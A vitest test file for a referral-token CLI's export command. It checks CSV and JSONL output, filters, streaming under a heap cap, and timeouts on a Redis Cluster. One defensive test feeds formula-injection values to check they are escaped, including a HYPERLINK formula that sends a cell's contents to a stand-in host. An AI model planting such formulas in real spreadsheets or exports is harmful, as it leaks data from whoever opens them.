import { spawn } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_FIELDS, scanTokens } from '../src/store/export.js';
import type { Token } from '../src/store/model.js';
import { createRedis } from '../src/store/redis.js';
import { MAIN, runCli } from './helpers/cli.js';
import { hasRedisServer, startCluster, type RedisClusterHandle } from '../bench/redis-server.js';
import { engineFixture, engineFixtureFor, SHARED_REDIS_URL, type EngineFixture } from './helpers/redis.js';
import { each } from './helpers/snapshot.js';

const TOTAL = 100_000;
const PER_USER = 10;
// long ids make every output line ~500 bytes, so 100k lines held at once are ~50 MB (see HEAP_CAP)
const pad = (s: string) => s.padEnd(100, '.');
const CAMPAIGN_A = pad('campaign-a');
// a campaign name that needs RFC 4180 quoting
const CAMPAIGN_B = pad('campaign "b", quoted');
const SATELLITES = ['sat-1', 'sat-2', 'sat-3', 'sat-4'];

/**
 * Why a heap cap and not an RSS bound: V8 grows its heap lazily, so the RSS of a streaming export
 * wanders by tens of MB with GC timing, while the cap is a hard wall. The export starts in ~18 MB of
 * old space (the CLI loads every command); buffering all 100k rows costs ~50 MB more as JSON lines
 * (more as row arrays), so an export that buffers instead of streaming dies of "heap out of memory"
 * under this cap, and a streaming one has ~30 MB of room.
 */
const HEAP_CAP = { NODE_OPTIONS: '--max-old-space-size=48' };

/** RFC 4180 reader (quoted fields, doubled quotes), enough to check what the export writes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (quoted) field += c;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += c;
  }
  expect(field, 'the last line ends with a newline').toBe('');
  return rows;
}

/** The row the export should print for a token, from the engine's lookup (no lapsed leases here). */
function expectedRow(t: Token): string[] {
  return EXPORT_FIELDS.map((f) => (t[f] === undefined ? '' : String(t[f])));
}

describe('referral-manager export (child process, real Redis, 100k tokens)', () => {
  let fx: EngineFixture;
  let env: Record<string, string>;
  const tokens: string[] = [];
  const inA = new Set<string>();
  let redeemed: string[];
  let reserved: string[];
  let revoked: string[];

  beforeAll(async () => {
    fx = await engineFixture({ label: 'cliexport' });
    env = { KEY_PREFIX: fx.prefix, REDIS_URL: SHARED_REDIS_URL };
    for (let done = 0, batch = 0; done < TOTAL; done += 10_000, batch++) {
      const owners = Array.from({ length: 10_000 / PER_USER }, (_, i) => ({
        ownerSatelliteId: SATELLITES[i % SATELLITES.length]!,
        ownerUserId: pad(`user-${done + i}`),
      }));
      const campaignId = batch % 2 === 0 ? CAMPAIGN_A : CAMPAIGN_B;
      const r = await fx.engine.generate({ owners, perUser: PER_USER, campaignId });
      for (const t of r.tokens) {
        tokens.push(t.token);
        if (campaignId === CAMPAIGN_A) inA.add(t.token);
      }
    }
    // spread over owners (every 97th token), so the changed tokens sit in many buckets and shards
    const picked = tokens.filter((_, i) => i % 97 === 0);
    redeemed = picked.slice(0, 400);
    reserved = picked.slice(400, 450);
    revoked = picked.slice(450, 550);
    await each(redeemed, 16, async (t, i) => {
      expect((await fx.engine.redeem(t, SATELLITES[i % 2]!, `new-${i}`)).code).toBe('ok');
    });
    await each(reserved, 16, async (t) => {
      expect((await fx.engine.reserve(t, 'sat-2', 3_600_000)).code).toBe('ok');
    });
    await each(revoked, 16, async (t) => {
      expect((await fx.engine.revokeToken(t)).code).toBe('ok');
    });
  }, 300_000);

  afterAll(async () => {
    await fx?.close();
  });

  it('csv: header + one RFC 4180 row per token, under a heap cap that buffering would break', async () => {
    const r = await runCli(['export', '--format', 'csv'], { ...env, ...HEAP_CAP });
    expect(r.code, r.stderr).toBe(0);
    const rows = parseCsv(r.stdout);
    expect(rows[0]).toEqual([...EXPORT_FIELDS]);
    expect(rows.length).toBe(TOTAL + 1);
    const byToken = new Map(rows.slice(1).map((row) => [row[0]!, row]));
    expect(byToken.size).toBe(TOTAL);
    for (const t of tokens) expect(byToken.has(t)).toBe(true);
    for (const row of byToken.values()) expect(row.length).toBe(EXPORT_FIELDS.length);
    expect(byToken.get([...inA][0]!)![4]).toBe(CAMPAIGN_A);
    expect(byToken.get(tokens.find((t) => !inA.has(t))!)![4]).toBe(CAMPAIGN_B);
    // every changed token and a few plain ones, field for field
    for (const t of [...redeemed, ...reserved, ...revoked, ...tokens.slice(0, 20)]) {
      expect(byToken.get(t)).toEqual(expectedRow((await fx.engine.lookup(t))!));
    }
  }, 120_000);

  it('jsonl: one object with all 13 fields per token, under the same heap cap', async () => {
    const r = await runCli(['export', '--format', 'jsonl'], { ...env, ...HEAP_CAP });
    expect(r.code, r.stderr).toBe(0);
    const lines = r.stdout.split('\n');
    expect(lines.pop()).toBe('');
    expect(lines.length).toBe(TOTAL);
    const byToken = new Map<string, Record<string, unknown>>();
    for (const l of lines) {
      const o = JSON.parse(l) as Record<string, unknown>;
      expect(Object.keys(o)).toEqual([...EXPORT_FIELDS]);
      byToken.set(o.token as string, o);
    }
    expect(byToken.size).toBe(TOTAL);
    for (const t of tokens) expect(byToken.has(t)).toBe(true);
    for (const t of [...redeemed.slice(0, 50), ...reserved.slice(0, 20), ...revoked.slice(0, 20), ...tokens.slice(0, 20)]) {
      const want = (await fx.engine.lookup(t))!;
      expect(byToken.get(t)).toEqual(Object.fromEntries(EXPORT_FIELDS.map((f) => [f, want[f] ?? null])));
    }
  }, 120_000);

  it('--campaign and --state filter by name and stored state', async () => {
    const notes: string[] = [];
    const count = async (...args: string[]) => {
      const r = await runCli(['export', '--format', 'jsonl', ...args], env);
      expect(r.code, r.stderr).toBe(0);
      if (r.stderr) notes.push(r.stderr);
      return r.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as { token: string; state: string; campaignId: string });
    };
    const [a, redeemedRows, reservedRows, revokedB, none] = await Promise.all([
      count('--campaign', CAMPAIGN_A),
      count('--state', 'redeemed'),
      count('--state', 'reserved'),
      count('--campaign', CAMPAIGN_B, '--state', 'revoked'),
      count('--campaign', 'no-such-campaign'),
    ]);
    expect(a.length).toBe(inA.size);
    expect(a.every((o) => o.campaignId === CAMPAIGN_A && inA.has(o.token))).toBe(true);
    expect(redeemedRows.map((o) => o.token).sort()).toEqual([...redeemed].sort());
    expect(reservedRows.map((o) => o.token).sort()).toEqual([...reserved].sort());
    expect(revokedB.map((o) => o.token).sort()).toEqual(revoked.filter((t) => !inA.has(t)).sort());
    expect(revokedB.length).toBeGreaterThan(0);
    expect(none).toEqual([]);
    // a mistyped campaign id exports nothing, as an empty campaign would: said on stderr (the exit stays 0)
    expect(notes).toEqual(['note: no campaign "no-such-campaign" was run by generate or revoked (referral-manager campaigns list)\n']);
    // with --state nothing is said: a campaign of the admin route (no record) may have none in that state
    expect(await count('--campaign', 'no-such-campaign', '--state', 'redeemed')).toEqual([]);
    expect(notes).toHaveLength(1);
    // a campaign revoked through the admin route (no record), its tokens gone: it was run, nothing is said
    await fx.engine.revokeCampaign('revoked-no-tokens');
    expect(await count('--campaign', 'revoked-no-tokens')).toEqual([]);
    expect(notes).toHaveLength(1);

    const csv = await runCli(['export', '--format', 'csv', '--state', 'revoked'], env);
    expect(csv.code, csv.stderr).toBe(0);
    expect(parseCsv(csv.stdout).length).toBe(revoked.length + 1);
  }, 120_000);

  it('bad --format / --state exit 2 with the usage line', async () => {
    const runs = await Promise.all([
      runCli(['export', '--format', 'xml'], env),
      runCli(['export', '--format', 'csv', '--state', 'lapsed'], env),
      runCli(['export'], env),
    ]);
    for (const r of runs) {
      expect(r.code).toBe(2);
      expect(r.stdout).toBe('');
      expect(r.stderr.split('\n')).toContain('Usage: referral-manager export [options]');
    }
  });

  it('stops cleanly when the reader goes away (EPIPE, as with `| head`)', async () => {
    const proc = spawn(process.execPath, [MAIN, 'export', '--format', 'csv'], { env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
    let stderr = '';
    proc.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    let first = '';
    proc.stdout.once('data', (d: Buffer) => {
      first = d.toString();
      proc.stdout.destroy();
    });
    const code = await new Promise<number | null>((resolve) => proc.once('exit', resolve));
    expect(first.startsWith(`${EXPORT_FIELDS.join(',')}\n`)).toBe(true);
    expect(stderr).toBe('');
    expect(code).toBe(0);
  }, 60_000);
});

const clusterAvailable = hasRedisServer();
const noCluster = 'redis-server is not installed (`redis-server --version` failed), so no Redis Cluster can be started';
if (!clusterAvailable) console.warn(`test/cli-export.test.ts: skipping export on Redis Cluster: ${noCluster}`);

(clusterAvailable ? describe : describe.skip)(clusterAvailable ? 'export on a real 3-master Redis Cluster' : `export on Redis Cluster (skipped: ${noCluster})`, () => {
  let cluster: RedisClusterHandle | undefined;
  let fx: EngineFixture;

  beforeAll(async () => {
    cluster = await startCluster();
    fx = await engineFixture({ redis: () => createRedis({ redisUrl: '', redisClusterNodes: cluster!.nodes }), label: 'cliexportc' });
  }, 120_000);
  afterAll(async () => {
    await fx?.close();
    await cluster?.stop();
  });

  it('scans every master: each token exactly once', async () => {
    const owners = Array.from({ length: 2_000 }, (_, i) => ({ ownerSatelliteId: SATELLITES[i % 4]!, ownerUserId: `c-${i}` }));
    const { tokens } = await fx.engine.generate({ owners, perUser: 5, campaignId: 'cluster-camp' });
    for (const t of tokens.slice(0, 30)) expect((await fx.engine.redeem(t.token, 'sat-1', 'x')).code).toBe('ok');
    const env = { KEY_PREFIX: fx.prefix, REDIS_CLUSTER_NODES: cluster!.nodes.join(',') };

    const all = await runCli(['export', '--format', 'csv'], env);
    expect(all.code, all.stderr).toBe(0);
    const rows = parseCsv(all.stdout).slice(1);
    expect(rows.length).toBe(tokens.length);
    expect(new Set(rows.map((r) => r[0])).size).toBe(tokens.length);
    expect(new Set(rows.map((r) => r[0]))).toEqual(new Set(tokens.map((t) => t.token)));

    const redeemed = await runCli(['export', '--format', 'jsonl', '--state', 'redeemed'], env);
    expect(redeemed.code, redeemed.stderr).toBe(0);
    const got = redeemed.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as { token: string; redeemerSatelliteId: string });
    expect(got.map((o) => o.token).sort()).toEqual(tokens.slice(0, 30).map((t) => t.token).sort());
    expect(got.every((o) => o.redeemerSatelliteId === 'sat-1')).toBe(true);
  }, 120_000);

  // SCAN goes to each master's own connection, past the 10 s give-up the CLI arms on the Cluster's commands:
  // the export waited for ever where one redis-server's gives up
  it('gives up once the masters hang (SIGSTOP) mid-scan: exit 1 within seconds, not a wait without end', async () => {
    const env = { KEY_PREFIX: fx.prefix, REDIS_CLUSTER_NODES: cluster!.nodes.join(',') };
    if ((await fx.store.stats()).satellites['sat-1'] === undefined) {
      await fx.engine.generate({ owners: Array.from({ length: 2_000 }, (_, i) => ({ ownerSatelliteId: 'sat-1', ownerUserId: `h-${i}` })), perUser: 5, campaignId: 'hang-camp' });
    }
    // ~2 MB of JSON lines: a reader that stops reading holds the export part-way through its scan
    const proc = spawn(process.execPath, [MAIN, 'export', '--format', 'jsonl'], { env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
    let stderr = '';
    proc.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    const exited = new Promise<{ code: number | null; ms: number }>((resolve) => proc.once('exit', (code) => resolve({ code, ms: Date.now() - hungAt })));
    let hungAt = Date.now();
    try {
      await new Promise<void>((resolve) => proc.stdout.once('data', () => (proc.stdout.pause(), resolve())));
      // let the export fill the pipe and stop on it
      await new Promise((resolve) => setTimeout(resolve, 1000));
      for (const i of [0, 1, 2]) await cluster!.signal(i, 'SIGSTOP');
      hungAt = Date.now();
      proc.stdout.on('data', () => undefined);
      proc.stdout.resume();
      const late = new Promise<'hung'>((resolve) => setTimeout(() => resolve('hung'), 40_000));
      const end = await Promise.race([exited, late]);
      expect(end, `export still running 40 s after the masters hung; stderr: ${stderr}`).not.toBe('hung');
      expect((end as { code: number | null }).code, stderr).toBe(1);
      expect(stderr).toMatch(/error: Redis \(cluster [^)]+\) did not answer within 10 s; giving up/);
    } finally {
      proc.kill('SIGKILL');
      for (const i of [0, 1, 2]) await cluster!.signal(i, 'SIGCONT');
    }
  }, 90_000);
});

// user and campaign ids come from satellites; a marketer opens the CSV in a spreadsheet
describe('referral-manager export --format csv: values a spreadsheet would run as formulas', () => {
  const fx = engineFixtureFor('cliexportcsv');

  it("puts a ' before a value starting with = + - @, and --raw writes it as stored", async () => {
    const users = ['=HYPERLINK("http://x.example/?"&A1,"x")', '+1', '-2+3', '@SUM(A1)', 'plain=ok'];
    const r = await fx.engine.generate({ owners: users.map((u) => ({ ownerSatelliteId: 'sat-f', ownerUserId: u })), perUser: 1, campaignId: '-camp' });
    const env = { KEY_PREFIX: fx.prefix, REDIS_URL: SHARED_REDIS_URL };
    const rowsOf = async (...flags: string[]) => {
      const out = await runCli(['export', '--format', 'csv', ...flags], env);
      expect(out.code, out.stderr).toBe(0);
      const rows = parseCsv(out.stdout);
      expect(rows[0]).toEqual([...EXPORT_FIELDS]);
      return new Map(rows.slice(1).map((row) => [row[0]!, row]));
    };
    const [safe, raw] = [await rowsOf(), await rowsOf('--raw')];
    const user = EXPORT_FIELDS.indexOf('ownerUserId');
    const campaign = EXPORT_FIELDS.indexOf('campaignId');
    for (const { token, ownerUserId: userId } of r.tokens) {
      expect(safe.get(token)![user]).toBe(userId === 'plain=ok' ? userId : `'${userId}`);
      expect(safe.get(token)![campaign]).toBe("'-camp");
      expect(raw.get(token)![user]).toBe(userId);
      expect(raw.get(token)![campaign]).toBe('-camp');
    }
  });
});

// a generate during an export adds names (satellite, campaign numbers) to dictionaries the export has read
describe('export meeting tokens made after it read a shard\'s dictionary', () => {
  const fx = engineFixtureFor('cliexportlate');

  it('reads the dictionary again and names their campaign', async () => {
    const owners = Array.from({ length: 5_000 }, (_, i) => ({ ownerSatelliteId: 'sat-e', ownerUserId: `e-${i}` }));
    await fx.engine.generate({ owners, perUser: 1, campaignId: 'early' });
    const scan = scanTokens(fx.redis, fx.prefix);
    const rows: string[][] = [];
    // a fifth of the tokens: every shard's dictionary read by then
    while (rows.length < 1_000) rows.push(...(await scan.next()).value!);
    // the same owners, so the same buckets, which the scan has mostly still to read
    const late = new Set((await fx.engine.generate({ owners, perUser: 1, campaignId: 'late' })).tokens.map((t) => t.token));
    for await (const page of scan) rows.push(...page);
    const campaign = EXPORT_FIELDS.indexOf('campaignId');
    const lateRows = rows.filter((r) => late.has(r[0]!));
    expect(lateRows.length).toBeGreaterThan(1_000);
    expect(new Set(lateRows.map((r) => r[campaign]))).toEqual(new Set(['late']));
  });
});
